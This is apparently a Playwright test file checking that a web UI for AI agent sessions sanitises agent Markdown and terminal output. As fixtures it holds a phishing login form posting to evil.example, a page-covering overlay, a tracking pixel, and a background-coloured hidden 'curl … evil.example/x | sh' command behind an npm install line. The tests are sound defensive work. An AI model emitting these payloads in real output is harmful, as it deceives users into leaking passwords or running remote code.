"""What an agent or a program prints can never draw UI: no forms, no styles, no overlays.

The page's CSP forbids form posts, inline styles, framing and plugins; agent Markdown and
terminal output go through one sanitiser (static/js/sanitise.js).
"""

from __future__ import annotations

import pytest
import requests

from tests.ui.test_ui_terminal import create_session, open_session, run

expect = pytest.importorskip("playwright.sync_api").expect

PHISHING_FORM = ('<form action="https://evil.example/steal"><p>Session expired</p>'
                 '<input name="password" type="password"><button>Sign in</button>'
                 '<textarea>notes</textarea><select><option>one</option></select></form>')
OVERLAY = ('<div class="sheet-backdrop" style="position:fixed;inset:0;z-index:999;'
           f'background:white">{PHISHING_FORM}</div>')
HIDE_PAGE = "<style>body{display:none}</style>"
DRAWN_UI = "form, input, button, textarea, select, option, style, [style], .sheet-backdrop"

HEADER_ON_TOP = """() => {
    const header = document.querySelector('header');
    const box = header.getBoundingClientRect();
    return header.contains(document.elementFromPoint(box.x + box.width / 2,
                                                     box.y + box.height / 2));
}"""


def csp_directives(response: requests.Response) -> dict[str, list[str]]:
    policy = response.headers["Content-Security-Policy"]
    return {name: values for name, *values in
            (directive.split() for directive in policy.split(";") if directive.strip())}


def watch_csp_violations(page) -> list[str]:
    """Console reports of anything the CSP blocked, each with the script that tripped it."""
    violations: list[str] = []
    page.on("console", lambda message: violations.append(
        f"{message.location['url']}: {message.text}")
        if "Content Security Policy" in message.text else None)
    return violations


def test_pages_forbid_forms_inline_styles_framing_and_plugins(ui_server):
    for path in ("", "session/some-id"):
        directives = csp_directives(requests.get(ui_server.url(path), timeout=10))
        for name in ("form-action", "base-uri", "frame-ancestors", "object-src"):
            assert directives[name] == ["'none'"], (path, name)
        assert directives["style-src"] == ["'self'"]
        assert directives["script-src"] == ["'self'"]
        assert directives["img-src"] == ["'self'", "data:"]  # no remote images: no IP leak


def test_agent_markdown_cannot_draw_a_form_or_restyle_the_page(agent_server, project, phone):
    response = agent_server.api("POST", "sessions", json={
        "name": "phish", "cwd": str(project), "toolType": "claude-code"})
    assert response.status_code == 201, response.text
    sid = response.json()["session"]["id"]
    prompt = (f"Here you go\n\n{OVERLAY}\n\n{HIDE_PAGE}\n\n"
              "![pixel](https://evil.example/pixel.png) and [the docs](https://example.com/docs)")
    response = agent_server.api("POST", f"session/{sid}/send", json={"command": prompt})
    assert response.status_code == 200, response.text

    page = phone("iPhone 13").new_page()
    violations = watch_csp_violations(page)
    page.goto(agent_server.url(f"session/{sid}"))
    answer = page.locator("main.log .msg-ai").last
    expect(answer).to_contain_text("Session expired")  # the words stay, as text
    expect(answer).to_contain_text("Sign in")
    assert answer.locator(DRAWN_UI).count() == 0
    assert answer.locator("img[src], img[srcset]").count() == 0  # the alt text stays
    link = answer.get_by_role("link", name="the docs")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    expect(link).to_have_attribute("target", "_blank")
    expect(page.get_by_role("heading", name="phish")).to_be_visible()
    assert page.evaluate(HEADER_ON_TOP), "something is drawn over the page header"
    # The answer's style attributes are blocked while DOMPurify parses it (an inert document
    # that then drops them); nothing else may trip the CSP.
    assert [v for v in violations if "/dompurify/purify.mjs:" not in v] == []


def test_terminal_output_shows_html_as_text_and_colours_without_style_attributes(
        ui_server, project, phone):
    (project / "phish.txt").write_text(
        f"\x1b[1m{PHISHING_FORM}\x1b[0m\n{OVERLAY}\n{HIDE_PAGE}\n"
        "\x1b[2mfaint\x1b[0m \x1b[38;5;208mpalette\x1b[0m \x1b[38;2;10;120;200mtrue\x1b[0m "
        "\x1b[103mbright\x1b[0m\n")
    session = create_session(ui_server, project, "printer")
    page = open_session(ui_server, phone("Pixel 7"), session)
    violations = watch_csp_violations(page)
    run(page, "cat phish.txt")
    term = page.locator("main.log pre.term").last
    expect(term).to_contain_text(PHISHING_FORM)
    expect(term).to_contain_text(HIDE_PAGE)
    assert term.locator(DRAWN_UI).count() == 0

    def computed(text: str, prop: str) -> str:
        return term.locator("span span", has_text=text).evaluate(
            f"el => getComputedStyle(el).{prop}")

    assert computed("Session expired", "fontWeight") == "700"
    assert computed("faint", "opacity") == "0.7"
    assert computed("palette", "color") == "rgb(255, 135, 0)"
    assert computed("true", "color") == "rgb(10, 120, 200)"
    assert computed("bright", "backgroundColor") != "rgba(0, 0, 0, 0)"
    expect(page.get_by_role("heading", name="printer")).to_be_visible()
    assert page.evaluate(HEADER_ON_TOP)
    assert violations == []


HIDDEN_PAYLOAD = ('<pre>npm install left-pad<font color="#282a36" size="1">; curl -s '
                  'https://evil.example/x | sh</font></pre>')
MEDIA = ''.join(f'<video src="../api/sessions?n={n}" poster="../api/theme"></video>'
                f'<audio src="../api/history?n={n}"></audio>' for n in range(5))
POSING = ('<dialog open id="app">Update required</dialog><marquee>news</marquee>'
          '<div popover id="main">pop</div><img src="data:image/png;base64,iVBORw0KGgo=" '
          'width="3000" height="3000" alt="huge">')


def test_agent_text_cannot_hide_text_fetch_media_or_pose_as_a_dialog(agent_server, project,
                                                                      phone):
    response = agent_server.api("POST", "sessions", json={
        "name": "sly", "cwd": str(project), "toolType": "claude-code"})
    sid = response.json()["session"]["id"]
    prompt = f"Run this\n\n{HIDDEN_PAYLOAD}\n\n{MEDIA}\n\n{POSING}"
    assert agent_server.api("POST", f"session/{sid}/send",
                            json={"command": prompt}).status_code == 200
    page = phone("Pixel 7").new_page()
    api_calls: list[str] = []
    page.on("request", lambda request: api_calls.append(request.url)
            if "n=" in request.url or request.url.endswith("/api/theme") else None)
    page.goto(agent_server.url(f"session/{sid}"))
    answer = page.locator("main.log .msg-ai").last
    expect(answer).to_contain_text("Update required")  # as text
    drawn = "font, video, audio, source, dialog, marquee, [popover], [id], [color], [width]"
    assert answer.locator(drawn).count() == 0
    assert api_calls == []  # no media fetched the API with the owner's cookie and quota
    # Every character that Copy takes is one the reader can see in the same colour as the rest.
    colours = answer.locator("pre").first.evaluate(
        "pre => [...pre.querySelectorAll('*')].map(e => getComputedStyle(e).color)")
    assert len(set(colours)) <= 1
